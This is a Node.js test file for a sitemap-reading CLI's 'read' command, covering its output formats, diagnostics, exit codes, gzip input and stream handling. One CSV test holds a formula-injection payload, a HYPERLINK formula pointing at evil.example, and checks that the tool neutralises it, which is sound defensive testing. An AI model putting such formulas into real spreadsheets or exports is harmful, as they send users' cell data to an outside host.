import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { closeSync, copyFileSync, openSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { fileURLToPath } from 'node:url';
import { gzipSync } from 'node:zlib';
import { runCli } from '../helpers/cli.js';
import { tempDir } from '../helpers/tmp.js';

const API = fileURLToPath(new URL('../fixtures/read/api/', import.meta.url));

function workDir(): string {
  const dir = tempDir();
  for (const name of readdirSync(API)) copyFileSync(join(API, name), join(dir, name));
  return dir;
}

/** FILE:LINE:COL: severity code message (the line every command prints, src/cli/problems.ts) */
const DIAGNOSTIC_LINE = /^(.+):(\d+):(\d+): (error|warning|info) ([a-z0-9-]+\/[a-z0-9-]+) (.+)$/;

function diagnostics(stderr: string): Array<{ file: string; line: number; column: number; code: string; severity: string }> {
  return stderr
    .split('\n')
    .filter((l) => l.length > 0)
    .map((l) => {
      const m = DIAGNOSTIC_LINE.exec(l);
      assert.ok(m !== null, `not FILE:LINE:COL: severity code message: ${l}`);
      return { file: m[1] as string, line: Number(m[2]), column: Number(m[3]), code: m[5] as string, severity: m[4] as string };
    });
}

describe('sitemapkit read', () => {
  const cwd = workDir();

  it('prints JSON Lines by default, extensions included, and exits 0 when clean', async () => {
    const r = await runCli(['read', 'urlset.xml'], { cwd });
    assert.equal(r.code, 0);
    assert.equal(r.stderr, '');
    const lines = r.stdout.trimEnd().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
    assert.equal(lines.length, 3);
    assert.deepEqual(lines[0], { loc: 'https://www.example.com/', lastmod: '2024-05-01', changefreq: 'daily', priority: 1 });
    assert.deepEqual(lines[1], { loc: 'https://www.example.com/a?x=1&y=2', images: [{ loc: 'https://www.example.com/a.jpg' }] });
  });

  it('marks the children of a sitemap index as {"sitemap": ...}', async () => {
    const r = await runCli(['read', 'index.xml'], { cwd });
    assert.equal(r.code, 0);
    assert.deepEqual(
      r.stdout.trimEnd().split('\n').map((l) => JSON.parse(l) as unknown),
      [{ sitemap: { loc: 'https://www.example.com/sitemap-1.xml.gz', lastmod: '2024-05-01' } }, { sitemap: { loc: 'https://www.example.com/sitemap-2.xml.gz' } }],
    );
  });

  it('--format csv and tsv: a header, quoting and escaping', async () => {
    const csv = await runCli(['read', 'urlset.xml', '--format', 'csv'], { cwd });
    assert.equal(csv.code, 0);
    assert.equal(
      csv.stdout,
      'loc,lastmod,changefreq,priority\n' +
        'https://www.example.com/,2024-05-01,daily,1\n' +
        'https://www.example.com/a?x=1&y=2,,,\n' +
        '"https://www.example.com/caf%C3%A9, ""quoted""",2024-05-02T10:00:00+02:00,,\n',
    );
    const tsv = await runCli(['read', 'index.xml', '--format', 'tsv'], { cwd });
    assert.equal(tsv.stdout, 'loc\tlastmod\nhttps://www.example.com/sitemap-1.xml.gz\t2024-05-01\nhttps://www.example.com/sitemap-2.xml.gz\t\n');
  });

  it('--format csv: a cell a spreadsheet would run as a formula starts with a quote, as text', async () => {
    // Values the reader keeps as written (with their diagnostics); a loc that is no URL is not printed.
    writeFileSync(
      join(cwd, 'formulas.xml'),
      '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>https://www.example.com/x</loc><lastmod>=HYPERLINK("http://evil.example/?"&amp;A1)</lastmod><changefreq>@SUM(1)</changefreq><priority>-1</priority></url><url><loc>https://www.example.com/y</loc><lastmod>+cmd</lastmod></url></urlset>',
    );
    const csv = await runCli(['read', 'formulas.xml', '--format', 'csv'], { cwd });
    assert.equal(csv.code, 1);
    assert.equal(csv.stdout, `loc,lastmod,changefreq,priority\nhttps://www.example.com/x,"'=HYPERLINK(""http://evil.example/?""&A1)","'@SUM(1)","'-1"\nhttps://www.example.com/y,"'+cmd",,\n`);
  });

  it('--format urls: one loc per line', async () => {
    const r = await runCli(['read', 'urlset.xml', 'index.xml', '--format', 'urls'], { cwd });
    assert.equal(r.code, 0);
    assert.deepEqual(r.stdout.trimEnd().split('\n'), [
      'https://www.example.com/',
      'https://www.example.com/a?x=1&y=2',
      'https://www.example.com/caf%C3%A9, "quoted"',
      'https://www.example.com/sitemap-1.xml.gz',
      'https://www.example.com/sitemap-2.xml.gz',
    ]);
  });

  it('--format urls: a line break inside a loc is written %0A or %0D, so that each loc stays one line', async () => {
    writeFileSync(join(cwd, 'line-breaks.xml'), '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>https://www.example.com/a&#10;b</loc></url><url><loc>https://www.example.com/c&#13;&#10;d</loc></url></urlset>');
    const r = await runCli(['read', 'line-breaks.xml', '--format', 'urls'], { cwd });
    assert.equal(r.stdout, 'https://www.example.com/a%0Ab\nhttps://www.example.com/c%0D%0Ad\n');
  });

  it('reports problems on stderr as FILE:LINE:COL: severity code message and exits 1 on errors', async () => {
    const r = await runCli(['read', 'urls.txt', '--format', 'urls'], { cwd });
    assert.equal(r.code, 1);
    assert.equal(r.stdout, 'https://www.example.com/\nhttps://www.example.com/about\nhttps://www.example.com/contact\n');
    assert.deepEqual(diagnostics(r.stderr), [{ file: 'urls.txt', line: 4, column: 1, code: 'text/not-a-url', severity: 'error' }]);
    const html = await runCli(['read', 'page.html'], { cwd });
    assert.equal(html.code, 1);
    assert.equal(html.stdout, '');
    assert.deepEqual(diagnostics(html.stderr).map((d) => [d.code, d.line, d.column]), [['format/html', 2, 1]]);
    const amp = await runCli(['read', 'raw-ampersand.xml', '--format', 'urls'], { cwd });
    assert.equal(amp.code, 1);
    assert.ok(amp.stdout.split('\n').includes('https://www.example.com/10'));
    for (const d of diagnostics(amp.stderr)) assert.equal(d.file, 'raw-ampersand.xml');
  });

  it('a NUL or another character XML forbids is not well-formed: exit 1, and no URL carries it', async () => {
    const dir = tempDir();
    for (const [name, bad] of [['nul', '\u0000'], ['control', '\u0007'], ['ffff', '\uffff'], ['ref', '&#0;']] as const) {
      writeFileSync(join(dir, `${name}.xml`), `<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">\n<url><loc>https://example.com/a${bad}b</loc></url>\n<url><loc>https://example.com/c</loc></url>\n</urlset>\n`);
      for (const bulk of [[], ['--format', 'urls']]) {
        const r = await runCli(['read', `${name}.xml`, ...bulk], { cwd: dir });
        assert.equal(r.code, 1, name);
        assert.ok(!r.stdout.includes('\u0000') && !r.stdout.includes('\\u0000') && !r.stdout.includes('a\u0007b') && !r.stdout.includes('\\u0007') && !r.stdout.includes('\uffff'), `${name}: ${JSON.stringify(r.stdout)}`);
        assert.ok(r.stdout.includes('https://example.com/c'), name);
        const codes = diagnostics(r.stderr).map((d) => `${d.code}@${d.line}:${d.column}`);
        assert.ok(codes.includes(name === 'ref' ? 'xml/invalid-char-ref@2:32' : 'xml/invalid-char@2:32'), `${name}: ${codes.join(' ')}`);
        assert.ok(codes.includes('loc/untrusted@2:6'), `${name}: ${codes.join(' ')}`);
      }
    }
  });

  it('exits 0 with warnings only; --quiet hides them', async () => {
    writeFileSync(join(cwd, 'legacy.xml'), '<urlset xmlns="http://www.google.com/schemas/sitemap/0.84"><url><loc>https://a.example/</loc></url></urlset>');
    const r = await runCli(['read', 'legacy.xml'], { cwd });
    assert.equal(r.code, 0);
    assert.deepEqual(diagnostics(r.stderr).map((d) => [d.code, d.severity]), [['namespace/legacy', 'warning']]);
    const q = await runCli(['read', '-q', 'legacy.xml'], { cwd });
    assert.equal(q.code, 0);
    assert.equal(q.stderr, '');
  });

  it('reads standard input with -, gzipped too', async () => {
    const stdin = Readable.from([gzipSync(Buffer.from('https://a.example/1\nhttps://a.example/2\nnope\n'))]);
    const r = await runCli(['read', '-', '--format', 'urls'], { cwd, stdin });
    assert.equal(r.code, 1);
    assert.equal(r.stdout, 'https://a.example/1\nhttps://a.example/2\n');
    assert.deepEqual(diagnostics(r.stderr).map((d) => [d.file, d.line, d.column, d.code]), [['<stdin>', 3, 1, 'text/not-a-url']]);
  });

  it('a gzip with bytes appended after it (a stray newline): every entry, a warning, exit 0 as gzip -d and xmllint', async () => {
    writeFileSync(join(cwd, 'appended.txt.gz'), Buffer.concat([gzipSync('https://a.example/1\nhttps://a.example/2\n'), Buffer.from('\n')]));
    const r = await runCli(['read', 'appended.txt.gz', '--format', 'urls'], { cwd });
    assert.equal(r.code, 0);
    assert.equal(r.stdout, 'https://a.example/1\nhttps://a.example/2\n');
    assert.match(r.stderr, /^appended\.txt\.gz: warning gzip\/trailing-garbage bytes after the end of the gzip data \(from byte \d+\)/);
  });

  it('budgets: --max-entries and --max-bytes are errors, with what came before printed', async () => {
    const r = await runCli(['read', 'urlset.xml', '--max-entries', '1', '--format', 'urls'], { cwd });
    assert.equal(r.code, 1);
    assert.equal(r.stdout, 'https://www.example.com/\n');
    assert.deepEqual(diagnostics(r.stderr).map((d) => d.code), ['budget/entries']);
    const b = await runCli(['read', 'urls.txt', '--max-bytes', '40', '--format', 'urls'], { cwd });
    assert.equal(b.code, 1);
    assert.equal(b.stdout, 'https://www.example.com/\n');
    assert.deepEqual(diagnostics(b.stderr).map((d) => d.code), ['budget/decompressed-size']);
    const k = await runCli(['read', 'urls.txt', '--max-bytes', '1K', '--format', 'urls'], { cwd });
    assert.equal(k.stdout.split('\n').length, 4);
  });

  it('--summary: one line per input on stderr', async () => {
    const r = await runCli(['read', 'urlset.xml', 'index.xml', '--summary', '--format', 'urls'], { cwd });
    assert.equal(r.code, 0);
    const lines = r.stderr.trimEnd().split('\n');
    assert.equal(lines.length, 2);
    assert.match(lines[0] as string, /^urlset\.xml: urlset, 3 URLs, 0 errors, 0 warnings; 626 B read, utf-8$/);
    assert.match(lines[1] as string, /^index\.xml: sitemapindex, 2 sitemaps, /);
  });

  it('exits 2 on usage errors, with one line and no stack trace', async () => {
    for (const argv of [['read'], ['read', 'urlset.xml', '--format', 'xml'], ['read', '--max-entries', '0', 'urlset.xml'], ['read', '--nope', 'urlset.xml'], ['read', '-', '-']]) {
      const r = await runCli(argv, { cwd, stdin: Readable.from([]) });
      assert.equal(r.code, 2, argv.join(' '));
      assert.equal(r.stdout, '');
      assert.match(r.stderr, /^sitemapkit read: [^\n]+\nRun "sitemapkit read --help" for usage\.\n$/, argv.join(' '));
    }
  });

  it('exits 2 when a file cannot be read, after reading the others', async () => {
    const r = await runCli(['read', 'missing.xml', 'index.xml', '--format', 'urls'], { cwd });
    assert.equal(r.code, 2);
    assert.equal(r.stderr, 'sitemapkit read: cannot read missing.xml: no such file\n');
    assert.equal(r.stdout.split('\n').length, 3);
  });

  it('--help teaches: formats, the diagnostic line, exit codes, examples', async () => {
    const r = await runCli(['read', '--help'], { cwd });
    assert.equal(r.code, 0);
    for (const needle of ['FILE|URL|-', 'jsonl', 'csv', 'tsv', 'urls', 'FILE:LINE:COL: severity code', '--max-bytes', 'Exit status', 'Examples']) assert.ok(r.stdout.includes(needle), needle);
    const top = await runCli(['--help'], { cwd });
    assert.match(top.stdout, /\n {2}read {4}/);
    const viaHelp = await runCli(['help', 'read'], { cwd });
    assert.equal(viaHelp.stdout, r.stdout);
  });

  it('waits for drain when the output asks it to (backpressure)', async () => {
    const lines = Array.from({ length: 20_000 }, (_, i) => `https://a.example/${i}`).join('\n');
    writeFileSync(join(cwd, 'many.txt'), lines);
    const { EventEmitter } = await import('node:events');
    const { runRead } = await import('../../src/cli/commands/read.js');
    let written = '';
    let writes = 0;
    let drains = 0;
    const stdout = Object.assign(new EventEmitter(), {
      write(text: string): boolean {
        written += text;
        writes++;
        setImmediate(() => {
          drains++;
          stdout.emit('drain');
        });
        return false;
      },
    });
    const code = await runRead(['many.txt', '--format', 'urls'], { stdout, stderr: { write: () => true }, cwd, env: {} });
    assert.equal(code, 0);
    assert.equal(written, lines + '\n');
    assert.ok(writes >= 1 && drains >= writes - 1);
  });

  it('a folder as standard input (`read - < dir`) cannot be read, as `cat - < dir` says: exit 2, not an empty sitemap', () => {
    const fd = openSync(cwd, 'r');
    try {
      const root = fileURLToPath(new URL('../../', import.meta.url));
      const r = spawnSync(process.execPath, ['--import', 'tsx', join(root, 'src/cli/bin.ts'), 'read', '-'], { cwd: root, stdio: [fd, 'pipe', 'pipe'], encoding: 'utf8' });
      assert.equal(r.stderr, 'sitemapkit read: cannot read <stdin>: is a directory\n');
      assert.equal(r.status, 2);
    } finally {
      closeSync(fd);
    }
  });

  it('stops reading when standard output closes (`read big.xml | head`)', async () => {
    const urls = Array.from({ length: 40_000 }, (_, i) => `<url><loc>https://a.example/${i}</loc></url>`).join('\n');
    writeFileSync(join(cwd, 'big.xml'), `<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">\n${urls}\n</urlset>\n`);
    const { Writable } = await import('node:stream');
    const { runRead } = await import('../../src/cli/commands/read.js');
    const stdout = new Writable({ write: (_chunk, _encoding, callback) => callback(new Error('EPIPE')) });
    let stderr = '';
    const code = await runRead(['big.xml', '--summary'], { stdout, stderr: { write: (t: string) => (stderr += t) }, cwd, env: {} });
    assert.equal(code, 0);
    const read = /urlset, ([\d,]+) URLs/.exec(stderr);
    assert.ok(read !== null && Number((read[1] as string).replace(/,/g, '')) < 40_000, stderr);
  });
});
